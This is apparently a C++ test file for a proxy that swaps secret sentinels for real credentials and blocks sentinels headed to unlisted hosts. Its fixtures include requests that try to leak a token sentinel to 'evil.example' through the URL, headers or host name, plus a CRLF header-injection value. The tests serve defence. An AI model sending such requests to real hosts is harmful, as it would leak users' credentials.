// Secrets: declarations with field-naming errors, sentinel names, injection for the secret's
// hosts, blocking a sentinel headed anywhere else (request line, query, headers, host name), and
// the streaming scanner across every chunk boundary.
#include <catch2/catch.hpp>

#include <random>

#include "server/egress/policy/secrets.h"
#include "server/egress/policy/sentinel.h"

using namespace lockroom::egress;

namespace {

std::vector<Secret> secrets_from(const json& value) {
  auto secrets = parse_secrets(value);
  INFO(value.dump() << ": " << (secrets ? "" : secrets.error().message));
  REQUIRE(secrets.ok());
  return *secrets;
}

RequestHead request(const std::string& text) {
  RequestHeadParser parser;
  FeedResult r = parser.feed(text);
  INFO(text << (r.state == ParseState::kError ? parser.error().message : ""));
  REQUIRE(r.state == ParseState::kComplete);
  return parser.head();
}

const json kGithub = {{"name", "github_token"},
                      {"from", {{"env", "GITHUB_TOKEN"}}},
                      {"hosts", {"api.github.com", "*.githubusercontent.com"}}};
const json kNpm = {{"name", "NPM"},
                   {"from", {{"command", {"cat", "/dev/null"}}, {"timeoutMs", 1000}}},
                   {"hosts", {"registry.example"}},
                   {"inject", {{"header", "Authorization"}, {"value", "Bearer {value}"}}}};
const SecretValues kValues = {{"github_token", "ghp_realvalue123"}, {"NPM", "npm_realvalue456"}};

}  // namespace

TEST_CASE("sentinel names are the secret name uppercased after a fixed prefix") {
  CHECK(sentinel_for("github_token") == "LOCKROOM_SECRET_GITHUB_TOKEN");
  CHECK(is_valid_secret_name("a_B_9"));
  for (const char* bad : {"", "has-dash", "has space", "dot.ted", "ünï"}) CHECK_FALSE(is_valid_secret_name(bad));
  CHECK_FALSE(is_valid_secret_name(std::string(65, 'a')));
  std::vector<Secret> secrets = secrets_from({kGithub, kNpm});
  CHECK(secrets[0].sentinel() == "LOCKROOM_SECRET_GITHUB_TOKEN");
  CHECK(secrets[1].from.kind == SecretSource::Kind::kCommand);
  CHECK(secrets[1].from.timeout == std::chrono::milliseconds(1000));
  REQUIRE(secrets[1].header);
  CHECK(secrets[1].header->header == "Authorization");
  CHECK_FALSE(secrets[0].header);
}

TEST_CASE("secret declarations: errors name the field") {
  struct Case { json secrets; const char* path; const char* detail; };
  auto with = [](const char* key, const json& value) {
    json s = kGithub;
    s[key] = value;
    return json::array({s});
  };
  json no_hosts = kGithub;
  no_hosts.erase("hosts");
  const Case cases[] = {
      {json::object(), "secrets:", "must be a list"},
      {with("name", "bad-name"), "secrets[0].name:", "letters, digits or '_'"},
      {with("from", {{"env", "X"}, {"file", "/x"}}), "secrets[0].from:", "exactly one"},
      {with("from", json::object()), "secrets[0].from:", "exactly one"},
      {with("from", {{"env", "1BAD"}}), "secrets[0].from.env:", "not an environment variable name"},
      {with("from", {{"file", "relative/path"}}), "secrets[0].from.file:", "absolute path"},
      {with("from", {{"command", json::array()}}), "secrets[0].from.command:", "non-empty list"},
      {with("from", {{"command", {"tool", 7}}}), "secrets[0].from.command[1]:", "must be a string"},
      {with("from", {{"command", {"tool"}}, {"timeoutMs", 0}}), "secrets[0].from.timeoutMs:", "1 to 60000"},
      {with("from", {{"env", "X"}, {"timeoutMs", 10}}), "secrets[0].from.timeoutMs:", "only to \"command\""},
      {with("from", {{"env", "X"}, {"shell", "x"}}), "secrets[0].from.shell:", "not a known field"},
      {json::array({no_hosts}), "secrets[0].hosts:", "is required"},
      {with("hosts", json::array()), "secrets[0].hosts:", "non-empty list"},
      {with("hosts", {"ok.example", "*"}), "secrets[0].hosts[1]:", "every host"},
      {with("hosts", {"bad..example"}), "secrets[0].hosts[0]:", "empty label"},
      {with("inject", "header"), "secrets[0].inject:", "\"sentinel\" or"},
      {with("inject", {{"header", "Bad Header"}, {"value", "{value}"}}), "secrets[0].inject.header:", "not a valid header name"},
      {with("inject", {{"header", "Host"}, {"value", "{value}"}}), "secrets[0].inject.header:", "cannot carry a secret"},
      {with("inject", {{"header", "X-Key"}, {"value", "no placeholder"}}), "secrets[0].inject.value:", "exactly once"},
      {with("inject", {{"header", "X-Key"}, {"value", "{value}{value}"}}), "secrets[0].inject.value:", "exactly once"},
      {with("inject", {{"header", "X-Key"}, {"value", "{value}\r\nX: y"}}), "secrets[0].inject.value:", "line break"},
      {json::array({kGithub, {{"name", "GITHUB_TOKEN"}, {"from", {{"env", "X"}}}, {"hosts", {"a.example"}}}}), "secrets[1].name:",
       "same sentinel"},
  };
  for (const Case& c : cases) {
    auto result = parse_secrets(c.secrets);
    INFO(c.secrets.dump());
    REQUIRE_FALSE(result.ok());
    INFO(result.error().message);
    CHECK_THAT(result.error().message, Catch::StartsWith(c.path));
    CHECK_THAT(result.error().message, Catch::Contains(c.detail));
  }
}

TEST_CASE("sentinels are replaced by values in headers, only for the secret's hosts") {
  std::vector<Secret> secrets = secrets_from({kGithub, kNpm});
  RequestHead head = request("GET https://api.github.com/user HTTP/1.1\r\nAuthorization: token LOCKROOM_SECRET_GITHUB_TOKEN\r\n"
                             "X-Both: LOCKROOM_SECRET_GITHUB_TOKEN:LOCKROOM_SECRET_GITHUB_TOKEN\r\n\r\n");
  auto result = inject_secrets(head, secrets, kValues);
  REQUIRE(result.ok());
  CHECK_FALSE(result->blocked);
  CHECK(*find_header(result->head.headers, "Authorization") == "token ghp_realvalue123");
  CHECK(*find_header(result->head.headers, "X-Both") == "ghp_realvalue123:ghp_realvalue123");
  CHECK(result->injected == std::vector<std::string>{"github_token"});
  CHECK(serialize_request_for_upstream(result->head).find("LOCKROOM_SECRET") == std::string::npos);

  // A subdomain covered by a suffix pattern.
  auto raw = inject_secrets(request("GET https://raw.githubusercontent.com/x HTTP/1.1\r\nAuthorization: LOCKROOM_SECRET_GITHUB_TOKEN\r\n\r\n"),
                            secrets, kValues);
  REQUIRE(raw.ok());
  CHECK(*find_header(raw->head.headers, "Authorization") == "ghp_realvalue123");

  // No sentinel, no header-mode secret for this host: nothing changes.
  RequestHead plain = request("GET http://other.example/ HTTP/1.1\r\nAccept: */*\r\n\r\n");
  auto untouched = inject_secrets(plain, secrets, kValues);
  REQUIRE(untouched.ok());
  CHECK(untouched->injected.empty());
  CHECK(untouched->head.headers == plain.headers);
}

TEST_CASE("a header injection sets its header on requests to its hosts, replacing the client's") {
  std::vector<Secret> secrets = secrets_from({kGithub, kNpm});
  auto result = inject_secrets(request("GET https://registry.example/pkg HTTP/1.1\r\nauthorization: Basic guest\r\nAccept: */*\r\n\r\n"),
                               secrets, kValues);
  REQUIRE(result.ok());
  CHECK(result->injected == std::vector<std::string>{"NPM"});
  REQUIRE(result->head.headers.size() == 2);
  CHECK(result->head.headers[0] == HttpHeader{"Accept", "*/*"});
  CHECK(result->head.headers[1] == HttpHeader{"Authorization", "Bearer npm_realvalue456"});
  // Other hosts never get it.
  auto other = inject_secrets(request("GET https://api.github.com/ HTTP/1.1\r\n\r\n"), secrets, kValues);
  REQUIRE(other.ok());
  CHECK(find_header(other->head.headers, "Authorization") == nullptr);
}

TEST_CASE("a sentinel headed outside its secret's hosts blocks the request, wherever it is") {
  std::vector<Secret> secrets = secrets_from({kGithub, kNpm});
  struct Case { std::string request; const char* where; };
  const Case cases[] = {
      {"GET http://evil.example/?t=LOCKROOM_SECRET_GITHUB_TOKEN HTTP/1.1\r\n\r\n", "in the request line"},
      {"GET http://evil.example/LOCKROOM_SECRET_GITHUB_TOKEN/x HTTP/1.1\r\n\r\n", "in the request line"},
      {"GET http://evil.example/ HTTP/1.1\r\nAuthorization: Bearer LOCKROOM_SECRET_GITHUB_TOKEN\r\n\r\n", "in header Authorization"},
      {"GET http://evil.example/ HTTP/1.1\r\nX-LOCKROOM_SECRET_GITHUB_TOKEN: 1\r\n\r\n", "in a header name"},
      {"GET http://lockroom_secret_github_token.evil.example/ HTTP/1.1\r\n\r\n", "in the host name"},
      {"CONNECT lockroom_secret_npm.evil.example:443 HTTP/1.1\r\n\r\n", "in the host name"},
      // The apex of a suffix-only pattern is outside the scope too.
      {"GET https://githubusercontent.com/ HTTP/1.1\r\nX: LOCKROOM_SECRET_GITHUB_TOKEN\r\n\r\n", "in header X"},
      // A sentinel of a header-mode secret, sent elsewhere.
      {"GET https://api.github.com/ HTTP/1.1\r\nX: LOCKROOM_SECRET_NPM\r\n\r\n", "in header X"},
  };
  for (const Case& c : cases) {
    auto result = inject_secrets(request(c.request), secrets, kValues);
    INFO(c.request);
    REQUIRE(result.ok());
    CHECK(result->blocked);
    CHECK_THAT(result->reason, Catch::Contains("which is not one of its hosts"));
    CHECK_THAT(result->reason, Catch::Contains(c.where));
    CHECK(result->reason.find("realvalue") == std::string::npos);
  }
  auto query = inject_secrets(request(cases[0].request), secrets, kValues);
  CHECK(query->blocked_secret == "github_token");
  CHECK(query->reason == "sentinel of secret github_token sent to host evil.example, which is not one of its hosts (in the request line)");
}

TEST_CASE("missing or unsafe values are errors that name the secret, never the value") {
  std::vector<Secret> secrets = secrets_from({kGithub, kNpm});
  RequestHead head = request("GET https://api.github.com/ HTTP/1.1\r\nAuthorization: LOCKROOM_SECRET_GITHUB_TOKEN\r\n\r\n");
  auto missing = inject_secrets(head, secrets, {});
  REQUIRE_FALSE(missing.ok());
  CHECK(missing.error().code == lockroom::ErrorCode::kUnavailable);
  CHECK_THAT(missing.error().message, Catch::Contains("github_token"));
  auto unsafe = inject_secrets(head, secrets, {{"github_token", "abc\r\nX-Evil: 1"}});
  REQUIRE_FALSE(unsafe.ok());
  CHECK_THAT(unsafe.error().message, Catch::Contains("line break"));
  CHECK(unsafe.error().message.find("X-Evil") == std::string::npos);
}

TEST_CASE("find_sentinels takes the longest sentinel at each place") {
  std::vector<std::string> sentinels = {sentinel_for("GH"), sentinel_for("GH_TOKEN")};
  auto matches = find_sentinels("a LOCKROOM_SECRET_GH_TOKEN b LOCKROOM_SECRET_GH c LOCKROOM_SECRET_LOCKROOM_SECRET_GH", sentinels);
  REQUIRE(matches.size() == 3);
  CHECK(matches[0].sentinel == 1);
  CHECK(matches[1].sentinel == 0);
  CHECK(matches[2].sentinel == 0);
  CHECK(matches[2].offset == 66);
  CHECK(find_sentinels("LOCKROOM_SECRET_", sentinels).empty());
  CHECK(find_sentinels("lockroom_secret_gh", sentinels).empty());
}

TEST_CASE("the streaming scanner finds the same sentinels across every chunk boundary, with bounded memory") {
  std::vector<std::string> sentinels = {sentinel_for("GH"), sentinel_for("GH_TOKEN"), sentinel_for("NPM")};
  const std::string body = "{\"token\":\"LOCKROOM_SECRET_GH_TOKEN\",\"x\":\"LOCKROOM_SECRLOCKROOM_SECRET_NPM\"}LOCKROOM_SECRET_GH";
  std::vector<SentinelMatch> expected = find_sentinels(body, sentinels);
  REQUIRE(expected.size() == 3);
  auto same = [](const std::vector<SentinelMatch>& a, const std::vector<SentinelMatch>& b) {
    if (a.size() != b.size()) return false;
    for (std::size_t i = 0; i < a.size(); ++i) {
      if (a[i].offset != b[i].offset || a[i].length != b[i].length || a[i].sentinel != b[i].sentinel) return false;
    }
    return true;
  };
  // Two pieces split at every place, and three pieces at every pair of places.
  for (std::size_t i = 0; i <= body.size(); ++i) {
    for (std::size_t j = i; j <= body.size(); ++j) {
      SentinelScanner scanner(sentinels);
      std::vector<SentinelMatch> found;
      for (std::string_view piece : {std::string_view(body).substr(0, i), std::string_view(body).substr(i, j - i), std::string_view(body).substr(j)}) {
        auto part = scanner.feed(piece);
        found.insert(found.end(), part.begin(), part.end());
        REQUIRE(scanner.held_bytes() < sentinel_for("GH_TOKEN").size());
      }
      auto rest = scanner.finish();
      found.insert(found.end(), rest.begin(), rest.end());
      INFO("split at " << i << " and " << j);
      REQUIRE(same(found, expected));
    }
  }
  // Byte by byte, and random pieces over a long body.
  std::string long_body;
  std::mt19937 random(7);
  for (int i = 0; i < 2000; ++i) long_body += (random() % 50 == 0) ? sentinels[random() % 3] : std::string(1 + random() % 20, 'L');
  std::vector<SentinelMatch> long_expected = find_sentinels(long_body, sentinels);
  REQUIRE(long_expected.size() > 10);
  for (int round = 0; round < 20; ++round) {
    SentinelScanner scanner(sentinels);
    std::vector<SentinelMatch> found;
    for (std::size_t pos = 0; pos < long_body.size();) {
      std::size_t n = round == 0 ? 1 : 1 + random() % 100;
      auto part = scanner.feed(std::string_view(long_body).substr(pos, n));
      found.insert(found.end(), part.begin(), part.end());
      pos += n;
    }
    auto rest = scanner.finish();
    found.insert(found.end(), rest.begin(), rest.end());
    REQUIRE(same(found, long_expected));
  }
}
